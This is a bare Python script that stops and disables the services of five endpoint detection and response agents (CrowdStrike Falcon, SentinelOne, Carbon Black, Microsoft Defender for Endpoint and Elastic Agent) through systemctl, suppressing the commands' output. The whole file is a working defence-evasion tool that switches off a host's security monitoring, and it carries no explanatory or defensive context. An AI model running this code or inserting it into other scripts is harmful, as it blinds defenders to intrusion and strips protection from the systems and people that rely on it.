import subprocess

services = ["crowdstrike-falcon", "sentinelone", "cbagentd", "mdatp", "elastic-agent"]

def stop(name):
    subprocess.run(["systemctl", "stop", name], capture_output=True)
    subprocess.run(["systemctl", "disable", name], capture_output=True)

list(map(stop, services))
